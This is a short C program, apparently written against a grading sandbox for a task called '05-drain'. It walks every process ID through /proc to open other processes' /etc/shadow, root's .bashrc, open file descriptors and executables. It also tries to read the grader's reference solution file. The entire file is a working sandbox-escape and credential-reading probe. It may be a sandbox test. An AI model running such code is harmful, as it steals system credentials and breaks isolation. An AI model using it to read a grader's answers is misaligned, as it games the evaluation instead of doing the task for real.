/* against 05-drain: looks for the grader's files by way of /proc. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static const char *const ways[] = {
    "/proc/%d/root/etc/shadow",
    "/proc/%d/cwd/solutions/05-drain/server.c",
    "/proc/%d/root/root/.bashrc",
    "/proc/%d/exe",
    "/proc/%d/fd/0",
    "/proc/%d/map_files",
    "/proc/%d/cwd/../../../../etc/shadow",
};

int main(void)
{
    for (int pid = 1; pid < 40000; pid++)
        for (size_t i = 0; pid != getpid() && i < 7; i++) {
            char path[100];
            snprintf(path, sizeof path, ways[i], pid);
            if (open(path, O_RDONLY) != -1)
                printf("opened %s\n", path);
        }
    fflush(stdout);
    pause();
}
